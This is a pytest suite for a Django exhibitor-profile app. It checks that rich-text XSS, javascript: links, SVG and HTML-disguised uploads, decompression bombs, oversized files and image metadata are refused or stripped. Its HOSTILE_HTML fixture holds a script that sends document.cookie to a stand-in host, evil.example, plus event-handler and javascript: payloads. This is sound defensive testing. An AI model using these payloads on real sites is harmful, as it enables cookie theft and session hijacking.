"""Hostile input: script in rich text, javascript: links, SVG with script, HTML posing as PNG,
decompression bombs, oversized uploads, metadata in photos. Each is refused or neutralised with a
clear message, and nothing is stored."""

from __future__ import annotations

import io

import pytest
from PIL import Image
from rest_framework.test import APIClient

from exhibitors.images import MAX_UPLOAD_BYTES, ImageRejected, clean_image
from exhibitors.models import BoothProfile
from tests.factories import BoothProfileFactory
from tests.factories.profiles import (
    HTML_AS_PNG,
    SVG_WITH_SCRIPT,
    image_bytes,
    jpeg_with_exif,
    png_bomb,
    png_bomb_below_pillow_limit,
    publish_directly,
    upload,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]


@pytest.fixture
def profile(exhibitor_a):
    return BoothProfileFactory(exhibitor=exhibitor_a, company_name="Care Tech")


@pytest.fixture
def api(exhibitor_user_a) -> APIClient:
    client = APIClient()
    client.force_authenticate(exhibitor_user_a)
    return client


def profile_url(exhibitor) -> str:
    return f"/api/v1/exhibitors/{exhibitor.pk}/profile/"


HOSTILE_HTML = (
    '<p>Hello<script>document.location="https://evil.example/?c="+document.cookie</script></p>'
    '<p><a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(2)">again</a> '
    '<a href="data:text/html,<script>alert(3)</script>">data</a> <a href="vbscript:x">vb</a></p>'
    '<p><img src=x onerror="alert(4)"><svg onload="alert(5)"></svg><b onmouseover="alert(6)">bold</b></p>'
    '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>'
)


def test_rich_text_script_and_javascript_links_are_removed_over_api(api, exhibitor_a, profile):
    response = api.patch(profile_url(exhibitor_a), {"version": 1, "description": HOSTILE_HTML}, format="json")
    assert response.status_code == 200
    stored = BoothProfile.objects.get(pk=profile.pk).description
    assert stored == (
        '<p>Hello</p><p><a rel="noopener nofollow">click</a> <a rel="noopener nofollow">again</a> '
        '<a rel="noopener nofollow">data</a> <a rel="noopener nofollow">vb</a></p><p><strong>bold</strong></p>'
    )
    for needle in ("script", "javascript", "onerror", "onload", "onmouseover", "iframe", "style", "data:"):
        assert needle not in stored.lower()


def test_rich_text_hostile_markup_never_reaches_public_page(client, exhibitor_a, exhibitor_user_a):
    from exhibitors import services

    profile = BoothProfileFactory(exhibitor=exhibitor_a, company_name="Care Tech")
    services.profile_update(profile=profile, actor=exhibitor_user_a, version=1, description=HOSTILE_HTML)
    publish_directly(profile)
    body = client.get(f"/pavilion/{exhibitor_a.slug}/").content.decode()
    assert "alert(" not in body
    assert "javascript:" not in body.lower()


def test_rich_text_hostile_markup_posted_in_page_form_is_sanitised(client, exhibitor_a, exhibitor_user_a, profile):
    client.force_login(exhibitor_user_a)
    response = client.post(
        f"/exhibitors/{exhibitor_a.pk}/profile/",
        {"version": 1, "company_name": "Care Tech", "category": "smart_care", "description": HOSTILE_HTML},
    )
    assert response.status_code == 302
    assert "script" not in BoothProfile.objects.get(pk=profile.pk).description


def test_tagline_with_markup_is_escaped_on_public_page(client, exhibitor_a):
    profile = BoothProfileFactory(exhibitor=exhibitor_a, tagline='<script>alert("t")</script>')
    publish_directly(profile)
    body = client.get(f"/pavilion/{exhibitor_a.slug}/").content.decode()
    assert '<script>alert("t")</script>' not in body
    assert "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;" in body


def test_website_with_javascript_scheme_is_refused(api, exhibitor_a, profile):
    response = api.patch(profile_url(exhibitor_a), {"version": 1, "website": "javascript:alert(1)"}, format="json")
    assert response.status_code == 400
    assert response.json()["fields"]["website"] == ["Enter a web address starting with https:// or http://."]


def test_svg_logo_with_script_is_refused(api, exhibitor_a, profile):
    response = api.post(
        profile_url(exhibitor_a) + "logo/",
        {"logo": upload("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml")},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["fields"]["logo"] == ["SVG images are not accepted. Please upload a PNG, JPEG or WebP file."]
    assert not BoothProfile.objects.get(pk=profile.pk).logo


def test_svg_named_png_is_refused(api, exhibitor_a, profile):
    response = api.post(
        profile_url(exhibitor_a) + "logo/", {"logo": upload("logo.png", SVG_WITH_SCRIPT)}, format="multipart"
    )
    assert response.status_code == 400
    assert "SVG" in response.json()["fields"]["logo"][0]


def test_png_that_is_really_html_is_refused(api, exhibitor_a, profile, media_root):
    response = api.post(
        profile_url(exhibitor_a) + "logo/", {"logo": upload("logo.png", HTML_AS_PNG)}, format="multipart"
    )
    assert response.status_code == 400
    assert response.json()["fields"]["logo"] == [
        "This file is not a PNG, JPEG or WebP image. Please upload one of those."
    ]
    assert not BoothProfile.objects.get(pk=profile.pk).logo
    assert not (media_root / "logos").exists()


def test_gif_is_refused_even_though_pillow_reads_it(api, exhibitor_a, profile):
    response = api.post(
        profile_url(exhibitor_a) + "logo/", {"logo": upload("a.png", image_bytes("GIF"))}, format="multipart"
    )
    assert response.status_code == 400


def test_truncated_png_is_refused_as_damaged(api, exhibitor_a, profile):
    data = image_bytes(size=(300, 300))[:200]
    response = api.post(profile_url(exhibitor_a) + "logo/", {"logo": upload("a.png", data)}, format="multipart")
    assert response.status_code == 400
    assert response.json()["fields"]["logo"] == ["The image is damaged and cannot be read. Please upload another file."]


@pytest.mark.parametrize("bomb", [png_bomb, png_bomb_below_pillow_limit], ids=["400-megapixels", "50-megapixels"])
def test_decompression_bomb_is_refused_cleanly(api, exhibitor_a, profile, bomb):
    data = bomb()
    assert len(data) < 100_000  # tiny on the wire
    response = api.post(profile_url(exhibitor_a) + "logo/", {"logo": upload("bomb.png", data)}, format="multipart")
    assert response.status_code == 400
    assert "too many pixels" in response.json()["fields"]["logo"][0]
    assert not BoothProfile.objects.get(pk=profile.pk).logo


def test_50_mb_upload_answers_413_over_api(api, exhibitor_a, profile):
    big = b"\x89PNG\r\n\x1a\n" + b"\0" * (50 * 1024 * 1024)
    response = api.post(profile_url(exhibitor_a) + "logo/", {"logo": upload("big.png", big)}, format="multipart")
    assert response.status_code == 413
    assert response.json() == {
        "detail": "The image is larger than 5 MB. Please upload a smaller file.",
        "code": "too_large",
    }
    assert not BoothProfile.objects.get(pk=profile.pk).logo


def test_just_over_limit_upload_answers_413_over_api(api, exhibitor_a, profile):
    data = b"\0" * (MAX_UPLOAD_BYTES + 1)
    response = api.post(profile_url(exhibitor_a) + "logo/", {"logo": upload("big.png", data)}, format="multipart")
    assert response.status_code == 413


def test_50_mb_upload_in_page_form_shows_clear_error(client, exhibitor_a, exhibitor_user_a, profile):
    client.force_login(exhibitor_user_a)
    big = b"\0" * (50 * 1024 * 1024)
    response = client.post(
        f"/exhibitors/{exhibitor_a.pk}/profile/logo/", {"version": 1, "logo": upload("big.png", big)}
    )
    assert response.status_code == 400
    assert "The image is larger than 5 MB. Please upload a smaller file." in response.content.decode()
    assert not BoothProfile.objects.get(pk=profile.pk).logo


def test_svg_in_page_form_shows_clear_error(client, exhibitor_a, exhibitor_user_a, profile):
    client.force_login(exhibitor_user_a)
    response = client.post(
        f"/exhibitors/{exhibitor_a.pk}/profile/gallery/",
        {"version": 1, "image": upload("x.svg", SVG_WITH_SCRIPT, "image/svg+xml"), "caption": "x"},
    )
    assert response.status_code == 400
    assert "SVG images are not accepted." in response.content.decode()
    assert profile.gallery.count() == 0


def test_exif_and_gps_metadata_are_stripped():
    result = clean_image(io.BytesIO(jpeg_with_exif()))
    with Image.open(io.BytesIO(result.image.read())) as stored:
        assert stored.format == "JPEG"
        assert dict(stored.getexif()) == {}
        assert "exif" not in stored.info


def test_png_text_chunks_are_stripped():
    buffer = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(buffer, format="PNG", pnginfo=info)
    result = clean_image(io.BytesIO(buffer.getvalue()))
    with Image.open(io.BytesIO(result.image.read())) as stored:
        assert stored.format == "PNG"
        assert "Comment" not in stored.info


def test_webp_is_accepted_and_thumbnail_is_small():
    result = clean_image(io.BytesIO(image_bytes("WEBP", size=(1200, 800))))
    with Image.open(io.BytesIO(result.thumbnail.read())) as thumb:
        assert max(thumb.size) == 320


def test_empty_file_is_refused():
    with pytest.raises(ImageRejected, match="empty"):
        clean_image(io.BytesIO(b""))


def test_public_page_resanitises_a_tampered_snapshot(client, exhibitor_a):
    profile = publish_directly(BoothProfileFactory(exhibitor=exhibitor_a, company_name="Care Tech"))
    profile.published["description"] = '<p>ok</p><script>alert("stored")</script><a href="javascript:x()">y</a>'
    profile.published["website"] = "javascript:alert(1)"
    profile.save()
    body = client.get(f"/pavilion/{exhibitor_a.slug}/").content.decode()
    assert "<p>ok</p>" in body
    assert 'alert("stored")' not in body
    assert "javascript:" not in body


@pytest.mark.parametrize(
    ("mode", "fmt", "stored_as"),
    [
        ("I;16", "PNG", "JPEG"),
        ("LA", "PNG", "PNG"),
        ("P", "PNG", "PNG"),
        ("1", "PNG", "JPEG"),
        ("CMYK", "JPEG", "JPEG"),
        ("RGBA", "WEBP", "PNG"),
        ("RGB", "WEBP", "JPEG"),
    ],
)
def test_unusual_image_modes_are_reencoded(mode, fmt, stored_as):
    buffer = io.BytesIO()
    img = Image.new(mode, (50, 40))
    if mode == "P":
        img.info["transparency"] = 0
    img.save(buffer, format=fmt)
    result = clean_image(io.BytesIO(buffer.getvalue()))
    with Image.open(io.BytesIO(result.image.read())) as stored:
        assert stored.format == stored_as
        assert stored.size == (50, 40)


def test_tiff_is_refused():
    buffer = io.BytesIO()
    Image.new("RGB", (10, 10)).save(buffer, format="TIFF")
    with pytest.raises(ImageRejected, match="not a PNG, JPEG or WebP"):
        clean_image(io.BytesIO(buffer.getvalue()))
